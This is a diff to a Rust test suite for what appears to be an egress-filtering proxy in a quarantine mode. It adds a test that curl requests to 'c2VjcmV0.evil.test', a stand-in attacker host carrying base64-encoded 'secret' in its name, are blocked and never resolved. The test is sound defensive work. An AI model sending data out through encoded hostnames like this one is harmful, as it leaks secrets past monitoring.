@@ -13,7 +13,7 @@ const RULES: &str = "[[egress]]\nname = \"up\"\nhosts = [\"up.test\", \"six.test
 
 fn ask(server: &str, name: &str, kind: RecordType) -> Message {
     let socket = UdpSocket::bind("[::]:0").unwrap();
-    socket.set_read_timeout(Some(Duration::from_secs(2))).unwrap();
+    socket.set_read_timeout(Some(Duration::from_secs(60))).unwrap();
     let mut query = Message::new(7, MessageType::Query, OpCode::Query);
     query.add_query(Query::query(Name::from_ascii(name).unwrap(), kind));
     let server: SocketAddr = server.parse().unwrap();
@@ -58,6 +58,22 @@ fn no_query_leaves_the_host_for_a_name_that_is_not_allowed() {
     assert_eq!(heard.code(), 403);
     assert_eq!(world.seen.names(), Vec::<String>::new());
     assert!(world.events.codes().contains(&"host_not_allowed"));
+}
+
+/// In a quarantine every name has an address and every request is read, and nobody outside is told of it.
+#[test]
+fn a_name_that_no_rule_has_is_not_resolved_before_a_request_is_allowed() {
+    let policy = include_str!("../../../../policies/quarantine.toml");
+    let (_, rules) = policy.split_once("extends = \"default\"").unwrap();
+    let (rules, _) = rules.split_once("[[expect]]").unwrap();
+    let world = World::new(rules);
+    for url in ["http://c2VjcmV0.evil.test/a", "https://c2VjcmV0.evil.test/a"] {
+        assert_eq!(world.curl(&["-k", url]).code(), 403, "{url}");
+        assert_eq!(world.curl_proxied(&["-k", url]).code(), 403, "{url}");
+    }
+    assert_eq!(world.seen.names(), Vec::<String>::new());
+    assert!(world.events.codes().contains(&"path_not_allowed"));
+    assert!(!world.events.codes().contains(&"host_not_allowed"));
 }
 
 #[test]
